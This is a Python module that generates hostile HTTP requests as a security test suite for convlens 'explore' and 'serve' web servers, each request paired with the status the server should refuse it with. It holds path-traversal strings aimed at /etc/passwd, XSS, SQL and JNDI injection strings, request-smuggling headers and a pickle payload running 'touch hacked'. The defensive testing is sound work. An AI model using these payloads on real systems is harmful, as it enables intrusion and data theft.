"""Hostile requests for the servers of `explore` and `serve`, made from the routes that they have.

Each family is a function that yields requests with the status of their refusal. It goes through the
table of routes and the fields of their bodies, so a new route is covered without a change here.
"""

from __future__ import annotations

import json
import re
import types
import typing
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

from starlette.applications import Starlette
from starlette.routing import Route

from convlens.explore.web import MAX_JSON_BYTES, MAX_TEXT, RequestBody

METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "post")
MARKUP = "<img src=x onerror=alert(1)>"
REVIEW = "<svg onload=alert(2)>"  # the name of a list of suspected labels
# Valid values of fields, by their names. What is in braces is replaced by ids of the server.
SAMPLES: dict[str, Any] = {
    "run": "small",
    "runs": ["small", "small"],
    "image": "{image}",
    "set": "run:small",
    "review": REVIEW,
    "layer": "{layer}",
    "page": "a-page-of-the-tests",
    "split": "val",
}
# Routes with bodies that are not JSON, or without one.
NO_JSON = {"/api/try/images", "/api/data/sets", "/api/labels/lists", "/predict"}


@dataclass(frozen=True)
class RouteFacts:
    """A route of an application.

    Attributes:
        body: the model of its JSON body.
    """

    path: str
    methods: frozenset[str]
    body: type[RequestBody] | None

    def target(self, value: str = "x", number: str = "0") -> str:
        """Return its path with a value for all parameters, and one for those that are numbers."""
        path = re.sub(r"{\w+:int}", number, self.path)
        return re.sub(r"{\w+}", lambda _: value, path)


@dataclass(frozen=True)
class Case:
    """A request and the status with which it is refused.

    Attributes:
        headers: differences from those of the page; None leaves one out.
        raw: the bytes to send, if it is not a valid request.
    """

    name: str
    status: int
    method: str = "POST"
    target: str = "/"
    headers: Mapping[str, str | None] = field(default_factory=dict)
    body: bytes = b""
    raw: bytes = b""

    def content(self, ids: Mapping[str, str]) -> bytes:
        """Return the bytes to send.

        Args:
            ids: what replaces names in braces; with `cookie`, the page is logged in.
        """
        if self.raw:
            return _replaced(self.raw, ids)
        headers: dict[str, str | None] = {
            "Host": "{host}",
            "Origin": "http://{host}",
            "Cookie": "{cookie}={token}" if "cookie" in ids else None,
            "Connection": "close",
            "Content-Type": "application/json" if self.body else None,
        }
        body = _replaced(self.body, ids)
        if body or self.method not in ("GET", "HEAD"):
            headers["Content-Length"] = str(len(body))
        headers |= self.headers
        lines = [f"{name}: {value}" for name, value in headers.items() if value is not None]
        head = "\r\n".join([f"{self.method} {self.target} HTTP/1.1", *lines, "", ""])
        return _replaced(head.encode("latin-1"), ids) + body


def _replaced(content: bytes, ids: Mapping[str, str]) -> bytes:
    for name, value in ids.items():
        content = content.replace(b"{" + name.encode() + b"}", value.encode())
    return content


def routes_of(app: Starlette) -> list[RouteFacts]:
    """Return the routes of an application; methods of the same path are one."""
    found: dict[str, RouteFacts] = {}
    for route in app.routes:
        assert isinstance(route, Route), f"{route} needs hostile requests of its own"
        methods = frozenset(route.methods or ())
        if route.path in found:
            methods |= found[route.path].methods
        found[route.path] = RouteFacts(route.path, methods, _body_of(route.endpoint))
    return list(found.values())


def _body_of(endpoint: Any) -> type[RequestBody] | None:
    """Return the model that a function names to read the body of its request."""
    function = getattr(endpoint, "func", endpoint)  # of a functools.partial
    for name in function.__code__.co_names:
        value = function.__globals__.get(name)
        if isinstance(value, type) and issubclass(value, RequestBody):
            return value
    return None


def _share(values: Sequence[Any], number: int, of: int) -> Sequence[Any]:
    """Return the values for one of many routes, so that each value is sent to at least eight.

    Args:
        number: of the route.
        of: number of routes.
    """
    step = max(1, of // 8)
    return values[number % step :: step]


def valid_body(model: type[RequestBody]) -> dict[str, Any]:
    """Return a body with the fields that are required."""
    required = {name: info for name, info in model.model_fields.items() if info.is_required()}
    return {name: SAMPLES.get(name, _sample(info.annotation)) for name, info in required.items()}


def _sample(annotation: Any) -> Any:
    if typing.get_origin(annotation) is Literal:
        return typing.get_args(annotation)[0]
    return {str: "x", int: 0, float: 0.5}.get(annotation, ["x"])


def _json(content: Any) -> bytes:
    return json.dumps(content).encode()


# -- paths and ids ----------------------------------------------------------------------------

FILES = (
    "../server.py",
    "../../serve.py",
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "../../secret.txt",
    "..\\..\\secret.txt",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "app.js/../../server.py",
    "app.js\0.html",
    "..;/secret.txt",
    "....//....//secret.txt",
    ".",
    "..",
    "~root",
    "app.js ",
    "APP.JS",
    "\u2025/secret.txt",  # two dot leader
    "\uff0e\uff0e\uff0fsecret.txt",  # fullwidth
    "<script>alert(1)</script>",
)
OVERLONG = ("%c0%ae%c0%ae/secret.txt", "%e0%80%ae%e0%80%ae%2fsecret.txt", "%u002e%u002e/secret.txt")


def _encoded(text: str) -> Iterator[tuple[str, str]]:
    """Yield a path in the encodings in which servers have been deceived."""
    full = "".join(f"%{byte:02x}" for byte in text.encode())
    yield "encoded", full
    yield "encoded twice", full.replace("%", "%25")
    if text.isascii() and text.isprintable() and " " not in text:
        yield "plain", text
        yield "dots encoded", text.replace(".", "%2E").replace("<", "%3C")


def traversal(routes: list[RouteFacts]) -> Iterator[Case]:
    """Files outside of those that are served, as every parameter of a path and as the path."""
    paths = [("GET", "/{}"), ("GET", "/static/{}"), ("GET", "/models/{}")]
    for route in routes:
        if "{" in route.path:
            methods = sorted(route.methods & {"GET", "DELETE"})
            paths += [(method, route.target("{}")) for method in methods]
    for method, path in dict.fromkeys(paths):
        for text in FILES:
            for how, target in _encoded(text):
                yield Case(
                    f"{method} {path} {text!r} {how}", 404, method, path.replace("{}", target)
                )
        for target in OVERLONG:
            yield Case(f"{method} {path} {target}", 404, method, path.replace("{}", target))
    for target in ("//etc/passwd", "http://{host}/etc/passwd", "*", "/%00", "/../../etc/passwd"):
        yield Case(f"target {target}", 404, "GET", target)
    for route in routes:
        if ":int}" in route.path:
            for number in ("-1", "1.5", "1e9", "0x1", "NaN", "%EF%BC%91", "%2b1", "1%00"):
                yield Case(f"{route.path} {number}", 404, "GET", route.target(number=number))


IDS = (
    "",
    " ",
    ".",
    "../small",
    "../../../../etc/passwd",
    "/etc/passwd",
    "models/small",
    "./small",
    "small/",
    "small ",
    "small\0",
    "SMALL",
    "\u0455mall",  # starts with a Cyrillic letter
    "sm%61ll",
    "%2e%2e%2f",
    "..\\small",
    "-rf",
    "--help",
    "~",
    "__proto__",
    "' OR 1=1 --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "run:",
    "run:../small",
    "run:run:small",
    "set:-1",
    "set:00",
    "set:99",
    "set:+0",
    "set:\u0660",  # a digit zero in Arabic
    "set:" + "9" * 5000,  # too long for a number of Python
    "small",
    "run:small",
    "{image}",
    "{job}",
    "\u202egnp.llams",
)
# Texts without a meaning for the server. Layers are searched for by the job.
FREE_TEXT = {"page"}
SEARCHED_LATER = {("/api/try/top-images", "layer")}


def unknown_ids(routes: list[RouteFacts]) -> Iterator[Case]:
    """Ids that the server has not handed out, or for something else, in every field for one."""
    fields = [
        (route, name, info.annotation)
        for route in routes
        if route.body is not None
        for name, info in route.body.model_fields.items()
        if info.is_required() and info.annotation in (str, list[str])
        if name not in FREE_TEXT and (route.path, name) not in SEARCHED_LATER
    ]
    for number, (route, name, annotation) in enumerate(fields):
        assert route.body is not None
        valid = valid_body(route.body)
        known = valid[name][0] if annotation == list[str] else valid[name]
        for text in _share(IDS, number, len(fields)):
            if text != known:
                value = [text, known] if annotation == list[str] else text
                body = _json({**valid, name: value})
                yield Case(f"{route.path} {name}={text[:30]!r}", 400, target=route.path, body=body)


# -- who may ask ------------------------------------------------------------------------------

WRONG_HOSTS = (
    "evil.example",
    "127.0.0.1.evil.example",
    "localhost.evil.example:8000",
    "evil.example@localhost",
    "localhost@evil.example",
    "localhost/evil.example",
    "localhost, evil.example",
    "localhost:80:80",
    "localhost:abc",
    "localhost:<script>",
    "localhost.",
    "[::1].evil.example",
    "[::1",
    "[evil.example]",
    "192.168.0.1",
    "0.0.0.0",
    "127.1",
    "2130706433",
    "0x7f.0.0.1",
    "",
)
WRONG_ORIGINS: tuple[dict[str, str | None], ...] = (
    {"Origin": "http://evil.example"},
    {"Origin": "null"},
    {"Origin": ""},
    {"Origin": "https://{host}"},
    {"Origin": "HTTP://{host}"},
    {"Origin": "http://{host}/"},
    {"Origin": "http://{host}.evil.example"},
    {"Origin": "http://evil.example@{host}"},
    {"Origin": "http://localhost:1"},
    {"Origin": "{host}"},
    {"Origin": "http://{host}, http://evil.example"},
    {"Origin": "http://{host} http://{host}"},
    {"Origin": "http://{host}\r\nOrigin: http://evil.example"},
    {"Origin": "http://evil.example\r\nOrigin: http://{host}"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Sec-Fetch-Site": "none, cross-site"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
)
WRONG_TOKENS: tuple[dict[str, str | None], ...] = (
    {},
    {"Cookie": ""},
    {"Cookie": "{cookie}"},
    {"Cookie": "{cookie}="},
    {"Cookie": "{cookie}=an-old-token"},
    {"Cookie": "{cookie}={token}x"},
    {"Cookie": "{cookie}=x{token}"},
    {"Cookie": "{cookie}={token-prefix}"},
    {"Cookie": "convlens={token}"},
    {"Cookie": "convlens-1={token}"},
    {"Cookie": "{token}"},
    {"Cookie": "{token}={cookie}"},
    {"Cookie": "$Version=1; x={cookie}={token}"},
    {"Cookie": '{cookie}="' + "\\" * 60_000 + '"'},
    {"Cookie": "\x01;;=;{cookie};=={token}"},
    {"Authorization": "{token}"},
    {"Authorization": "Bearer"},
    {"Authorization": "Bearer "},
    {"Authorization": "Bearer  {token}"},
    {"Authorization": "Bearer {token-prefix}"},
    {"Authorization": "Bearer {token} {token}"},
    {"Authorization": "Basic {token}"},
    {"Authorization": "Token {token}"},
    {"Authorization": "Bearer\t{token}"},
    {"Token": "{token}"},
    {"X-Api-Key": "{token}"},
    {"X-Forwarded-For": "127.0.0.1", "Forwarded": "for=127.0.0.1"},
    {"Referer": "http://{host}/?token={token}"},
)
WRONG_QUERIES = (
    "token=",
    "token={token-prefix}",
    "token={token}x",
    "Token={token}",
    "token=wrong&token={token}",
    "token[]={token}",
    "token%00={token}",
    "{token}",
)


def _requests(routes: list[RouteFacts]) -> list[tuple[str, str]]:
    """Return each path of a server with each method that it knows, and one that is unknown."""
    known = [(method, route.target()) for route in routes for method in sorted(route.methods)]
    return [("GET", "/nothing"), *((method, path) for method, path in known if method != "HEAD")]


def _with_share(
    routes: list[RouteFacts], values: Sequence[Any], method: str = ""
) -> Iterator[tuple[str, str, Any]]:
    """Yield method, path and value: for each request some of the values, together all of them."""
    requests = [each for each in _requests(routes) if method in ("", each[0])]
    for number, (found, path) in enumerate(requests):
        for value in _share(values, number, len(requests)):
            yield found, path, value


def wrong_hosts(routes: list[RouteFacts]) -> Iterator[Case]:
    """Names of other hosts, as after DNS rebinding."""
    for method, path, host in _with_share(routes, WRONG_HOSTS):
        headers = {"Host": host, "X-Forwarded-Host": "{host}", "Origin": None}
        yield Case(f"{method} {path} Host: {host}", 421, method, path, headers)


def wrong_origins(routes: list[RouteFacts]) -> Iterator[Case]:
    """Requests that other pages cause (CSRF)."""
    for method, path, headers in _with_share(routes, WRONG_ORIGINS):
        yield Case(f"{method} {path} {headers}", 403, method, path, headers)


def missing_origins(routes: list[RouteFacts]) -> Iterator[Case]:
    """Changes that do not say from which page they come; only where a browser logs in."""
    for method, path in _requests(routes):
        for referer in (None, "http://{host}/try"):
            if method != "GET":
                headers = {"Origin": None, "Referer": referer}
                yield Case(f"{method} {path} Referer: {referer}", 403, method, path, headers)


def wrong_tokens(routes: list[RouteFacts]) -> Iterator[Case]:
    """Tokens that are missing, wrong, or somewhere else."""
    for method, path, headers in _with_share(routes, WRONG_TOKENS):
        name = f"{method} {path} {str(headers)[:60]}"
        yield Case(name, 401, method, path, {"Cookie": None, **headers})
    for method, path, query in _with_share(routes, WRONG_QUERIES):
        url = f"{path}?{query}"
        yield Case(f"{method} {url}", 401, method, url, {"Cookie": None})
    for method, path in _requests(routes):
        if method != "GET":
            url = f"{path}?token={{token}}"
            yield Case(f"{method} {url}", 401, method, url, {"Cookie": None})


# -- HTTP -------------------------------------------------------------------------------------


def wrong_methods(routes: list[RouteFacts]) -> Iterator[Case]:
    """Methods that a path does not have."""
    for route in routes:
        for method in METHODS:
            if method not in route.methods:
                yield Case(f"{method} {route.path}", 405, method, route.target())


def long_requests(routes: list[RouteFacts]) -> Iterator[Case]:
    """URLs, headers and bodies that are too large, and bodies where there is none."""
    large: tuple[tuple[str, str, dict[str, str | None], int], ...] = (
        ("long query", f"?name={'y' * 5000}", {}, 414),
        ("many parameters", f"?{'a=1&' * 2000}", {}, 414),
        ("long path", f"/{'9' * 5000}", {}, 414),
        ("long path, encoded", f"/{'%39' * 5000}", {}, 414),
        ("1000 headers", "", {f"X-{number}": "y" for number in range(1000)}, 431),
        ("headers of 100 kB", "", {f"X-{number}": "y" * 1200 for number in range(90)}, 431),
        ("header of 100 kB", "", {"X": "y" * 100_000}, 431),
    )
    for method, path, (name, more, headers, status) in _with_share(routes, large):
        yield Case(f"{method} {path} {name}", status, method, path + more, headers)
    for method, path in _requests(routes):
        if method == "GET":
            for body in ({"Content-Length": "5"}, {"Transfer-Encoding": "chunked"}):
                yield Case(f"GET {path} {body}", 400, method, path, body)
            continue
        for length in (str((32 << 20) + 1), str(10**15), "9" * 19):
            headers = {"Content-Length": length}
            yield Case(f"{method} {path} length {length}", 413, method, path, headers)


def malformed(routes: list[RouteFacts]) -> Iterator[Case]:
    """Bytes that are not HTTP, and bodies of uncertain extent (request smuggling)."""
    host = b"Host: {host}\r\n"
    for name, raw in (
        ("TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)),
        ("no target", b"GET\r\n\r\n"),
        ("HTTP/0.9", b"GET /\r\n\r\n"),
        ("two spaces", b"GET  / HTTP/1.1\r\n" + host + b"\r\n"),
        ("space in the target", b"GET /a b HTTP/1.1\r\n" + host + b"\r\n"),
        ("control character in the target", b"GET /\x01 HTTP/1.1\r\n" + host + b"\r\n"),
        ("zero in the target", b"GET /\0 HTTP/1.1\r\n" + host + b"\r\n"),
        ("bytes in the target", b"GET /\xff\xfe HTTP/1.1\r\n" + host + b"\r\n"),
        ("markup as the method", b"<script> / HTTP/1.1\r\n" + host + b"\r\n"),
        ("other protocol", b"GET / ICY/1.1\r\n" + host + b"\r\n"),
        ("version 11", b"GET / HTTP/11.1\r\n" + host + b"\r\n"),
        ("version in words", b"GET / HTTP/one\r\n" + host + b"\r\n"),
        ("SSH", b"SSH-2.0-OpenSSH_9.0\r\n\r\n"),
        ("SMTP", b"EHLO evil.example\r\n\r\n"),
        ("PROXY", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\n" + host + b"\r\n"),
        ("no host", b"GET / HTTP/1.1\r\n\r\n"),
        ("two hosts", b"GET / HTTP/1.1\r\n" + host + host + b"\r\n"),
        ("no colon", b"GET / HTTP/1.1\r\n" + host + b"Bad\r\n\r\n"),
        ("no name", b"GET / HTTP/1.1\r\n" + host + b": bad\r\n\r\n"),
        ("space before the colon", b"GET / HTTP/1.1\r\n" + host + b"Bad : x\r\n\r\n"),
        ("space in the name", b"GET / HTTP/1.1\r\n" + host + b"B ad: x\r\n\r\n"),
        ("markup as the name", b"GET / HTTP/1.1\r\n" + host + b"<script>: x\r\n\r\n"),
        ("zero in the value", b"GET / HTTP/1.1\r\n" + host + b"A: \0\r\n\r\n"),
        ("line break in the value", b"GET / HTTP/1.1\r\n" + host + b"A: b\rC: d\r\n\r\n"),
        ("folded first header", b"GET / HTTP/1.1\r\n folded\r\n" + host + b"\r\n"),
    ):
        yield Case(name, 400, raw=raw)
    lines = (
        (b"Content-Length: -1", 400),
        (b"Content-Length: +5", 400),
        (b"Content-Length: 0x5", 400),
        (b"Content-Length: 5e0", 400),
        (b"Content-Length: 5 5", 400),
        (b"Content-Length: 5, 6", 400),
        (b"Content-Length: \xb2", 400),
        (b"Content-Length:", 400),
        (b"Content-Length: " + b"9" * 30, 400),
        (b"Content-Length: 5\r\nContent-Length: 6", 400),
        (b"Content-Length: 5\r\nTransfer-Encoding: chunked", 400),
        (b"Transfer-Encoding: chunked\r\nContent-Length: 0", 400),
        (b"Transfer-Encoding: gzip", 501),
        (b"Transfer-Encoding: identity", 501),
        (b"Transfer-Encoding: xchunked", 501),
        (b"Transfer-Encoding: gzip, chunked", 501),
        (b"Transfer-Encoding: chunked, identity", 501),
        (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", 501),
    )
    for _, path, (line, status) in _with_share(routes, lines, "POST"):
        raw = b"POST " + path.encode() + b" HTTP/1.1\r\n" + host
        raw += b"Origin: http://{host}\r\n" + line + b"\r\n\r\nhello"
        yield Case(f"{path} {line.decode('latin-1')}", status, raw=raw)


BAD_CHUNKS = {
    "not a size": b"zz\r\nhello\r\n",
    "negative size": b"-5\r\nhello\r\n",
    "size with a prefix": b"0x5\r\nhello\r\n",
    "size of 21 digits": b"1" * 21 + b"\r\nhello\r\n",
    "more than its size": b"3\r\nhello\r\n0\r\n\r\n",
    "bytes": bytes(range(128, 256)) + b"\r\n",
    "bad trailer": b"5\r\nhello\r\n0\r\nno colon\r\n\r\n",
}


def bad_chunks(routes: list[RouteFacts]) -> Iterator[Case]:
    """Chunked bodies that break off."""
    headers = {"Content-Length": None, "Transfer-Encoding": "chunked", "Connection": None}
    for method, path, name in _with_share(routes, tuple(BAD_CHUNKS), "POST"):
        yield Case(f"{path} {name}", 400, method, path, headers, BAD_CHUNKS[name])


# -- multipart --------------------------------------------------------------------------------

FORM = "multipart/form-data; boundary=x"
PART = b'--x\r\nContent-Disposition: form-data; name="a"'
FILE_PART = PART + b'; filename="a.png"\r\n\r\n'
END = b"\r\n--x--\r\n"


def bad_multipart(routes: list[RouteFacts]) -> Iterator[Case]:
    """Forms that are damaged, too large, or have no files; and compressed bodies."""
    good = FILE_PART + b"1" + END
    for name, body, kind, status in (
        ("no boundary", good, "multipart/form-data", 400),
        ("no boundary, other type", good, "multipart/x-mixed-replace", 400),
        ("empty boundary", good, "multipart/form-data; boundary=", 400),
        ("other boundary", good, "multipart/form-data; boundary=y", 400),
        ("half a quote", good, 'multipart/form-data; boundary="', 400),
        ("boundary of 60 kB", good, "multipart/form-data; boundary=" + "y" * 60_000, 400),
        ("boundary in a charset", good, "multipart/form-data; boundary*=utf-8''x", 400),
        ("bytes as the boundary", good, "multipart/form-data; boundary=\xff\xfe", 400),
        ("charset undefined", good, FORM + "; charset=undefined", 400),
        ("nothing", b"", FORM, 400),
        ("text", b"hello", FORM, 400),
        ("only the end", b"--x--\r\n", FORM, 400),
        ("cut in a header", FILE_PART[:30], FORM, 400),
        ("cut in a file", FILE_PART + b"1", FORM, 400),
        ("UTF-16", good.decode().encode("utf-16"), FORM, 400),
        ("text before", b"hello" + good, FORM, 400),
        ("no disposition", b"--x\r\nA: b\r\n\r\n1" + END, FORM, 400),
        ("no header", b"--x\r\n\r\n1" + END, FORM, 400),
        ("no name", b"--x\r\nContent-Disposition: form-data\r\n\r\n1" + END, FORM, 400),
        ("not a file", PART + b"\r\n\r\n1" + END, FORM, 400),
        ("name in a charset", PART + b"; filename*=undefined''a\r\n\r\n1" + END, FORM, 400),
        ("markup as a name", PART.replace(b'"a"', b'"<script>"') + b"\r\n\r\n1" + END, FORM, 400),
        ("nested", PART + b"\r\nContent-Type: multipart/mixed\r\n\r\n" + good, FORM, 400),
        ("header of 1 MB", PART + b"y" * (1 << 20) + b"\r\n\r\n1" + END, FORM, 400),
        ("1000 headers", PART + b"\r\nA: b" * 1000 + b"\r\n\r\n1" + END, FORM, 400),
        ("field of 2 MB", PART + b"\r\n\r\n" + bytes(2 << 20) + END, FORM, 400),
        ("5000 fields", (PART + b"\r\n\r\n1\r\n") * 5000 + END, FORM, 400),
        ("65 files", (FILE_PART + b"1\r\n") * 65 + END, FORM, 413),
        ("5000 files", (FILE_PART + b"1\r\n") * 5000 + END, FORM, 413),
    ):
        yield Case(name, status, "POST", "/predict", {"Content-Type": kind}, body)
    for coding in ("gzip", "deflate", "br", "zstd", "identity, gzip", "x", ""):
        headers: dict[str, str | None] = {"Content-Encoding": coding}
        yield Case(f"coding {coding}", 415, "POST", "/predict", headers, good)


# -- JSON -------------------------------------------------------------------------------------


OTHER_TYPES = (
    None,
    "",
    "text/plain",
    "text/html",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/jsonp",
    "text/plain; application/json",
    "application/json, text/plain",
)


def bad_json(routes: list[RouteFacts]) -> Iterator[Case]:
    """Bodies that are not the JSON objects that were asked for."""
    with_body = [route for route in routes if route.body is not None]
    for number, route in enumerate(with_body):
        assert route.body is not None
        valid = _json(valid_body(route.body))
        first = json.dumps(next(iter(route.body.model_fields))).encode()
        bodies = (
            ("form", b"run=small&image=x", 400),
            ("cut", valid[:-1], 400),
            ("array", b"[]", 400),
            ("array of objects", b"[" + valid + b"]", 400),
            ("null", b"null", 400),
            ("text", b'"small"', 400),
            ("number", b"1", 400),
            ("NaN", b"NaN", 400),
            ("nothing in it", b"{}", 400),
            ("spaces", b" " * 1000, 400),
            ("two values", valid + valid, 400),
            ("comment", b"/* */" + valid, 400),
            ("single quotes", valid.replace(b'"', b"'"), 400),
            ("trailing comma", valid[:-1] + b",}", 400),
            ("unknown key", valid[:-1] + b',"x":1}', 400),
            ("markup as a key", valid[:-1] + b',"<script>alert(1)</script>":1}', 400),
            ("__proto__", valid[:-1] + b',"__proto__":{"run":1}}', 400),
            ("long key", valid[:-1] + b',"' + b"k" * 100_000 + b'":1}', 400),
            ("duplicate key", valid[:-1] + b"," + first + b":null}", 400),
            ("deep array", b"[" * 100_000, 400),
            ("deep object", b'{"a":' * 100_000, 400),
            ("deep value", b"{" + first + b":" + b"[" * 5000 + b"]" * 5000 + b"}", 400),
            ("number of 5000 digits", b"{" + first + b":" + b"9" * 5000 + b"}", 400),
            ("huge exponent", b"{" + first + b":1e999999}", 400),
            ("UTF-16", valid.decode().encode("utf-16"), 400),
            ("byte order mark", b"\xef\xbb\xbf" + valid, 400),
            ("not UTF-8", b"{" + first + b':"\xff\xfe"}', 400),
            ("half a surrogate pair", b"{" + first + b':"\\ud800"}', 400),
            ("control character", b"{" + first + b':"\x01"}', 400),
            ("gzip", b"\x1f\x8b\x08\0" + valid, 400),
            ("pickle", b"cposix\nsystem\n(S'touch hacked'\ntR.", 400),
            ("1 MB", b"{" + first + b':"' + b"y" * MAX_JSON_BYTES + b'"}', 413),
        )
        for name, body, status in _share(bodies, number, len(with_body)):
            yield Case(f"{route.path} {name}", status, target=route.path, body=body)
        for kind in _share(OTHER_TYPES, number, len(with_body)):
            headers = {"Content-Type": kind}
            yield Case(f"{route.path} type {kind}", 415, "POST", route.path, headers, valid)


def wrong_types(routes: list[RouteFacts]) -> Iterator[Case]:
    """Values of another type, or out of range, in every field of every body."""
    for route in routes:
        if route.body is None:
            continue
        for name, info in route.body.model_fields.items():
            limits = {
                key: getattr(limit, key)
                for limit in info.metadata
                for key in ("ge", "le", "gt", "lt", "min_length", "max_length")
                if getattr(limit, key, None) is not None
            }
            for value in _wrong_values(info.annotation, limits):
                body = _json({**valid_body(route.body), name: value})
                shown = repr(value)[:30]
                yield Case(f"{route.path} {name}={shown}", 400, target=route.path, body=body)


def _wrong_values(annotation: Any, limits: Mapping[str, Any]) -> list[Any]:
    """Return values that a field of this type must refuse."""
    if typing.get_origin(annotation) is types.UnionType:  # e.g. `float | None`
        (annotation,) = (each for each in typing.get_args(annotation) if each is not type(None))
        return [each for each in _wrong_values(annotation, limits) if each is not None]
    nested = {"run": ["small"]}
    if typing.get_origin(annotation) is Literal:
        return ["", "no-such", typing.get_args(annotation)[0] + " ", 0, None, True, [], nested]
    if annotation is str:
        texts = ["y" * (limits.get("max_length", MAX_TEXT) + 1)]
        texts += [""] if limits.get("min_length") else []
        return [*texts, 0, 1.5, None, True, [], ["small"], nested]
    if annotation is int:
        edges = [limits[key] - 1 for key in ("ge",) if key in limits]
        edges += [limits[key] + 1 for key in ("le",) if key in limits]
        edges += [limits[key] for key in ("gt", "lt") if key in limits]
        return [*edges, "0", 1.5, float("nan"), float("inf"), None, True, [], [0], nested]
    if annotation is float:
        edges = [limits[key] for key in ("gt", "lt") if key in limits]
        return [*edges, "0.5", float("nan"), float("inf"), None, True, [], nested]
    assert annotation == list[str], f"{annotation} needs wrong values here"
    most = limits.get("max_length", 0)
    lists: list[Any] = [["small"] * (most + 1)] if most else []
    lists += [[]] if limits.get("min_length") else []
    return [*lists, "small", 0, None, [0, 0], [None, None], [["small"], ["small"]], nested]


# -- tables -----------------------------------------------------------------------------------

Family = Callable[[list[RouteFacts]], Iterator[Case]]
FAMILIES: dict[str, tuple[Family, ...]] = {
    "explore": (
        traversal,
        unknown_ids,
        wrong_hosts,
        wrong_origins,
        missing_origins,
        wrong_tokens,
        wrong_methods,
        long_requests,
        malformed,
        bad_chunks,
        bad_json,
        wrong_types,
    ),
    "serve": (
        traversal,
        wrong_hosts,
        wrong_origins,
        wrong_methods,
        long_requests,
        malformed,
        bad_chunks,
        bad_multipart,
    ),
}
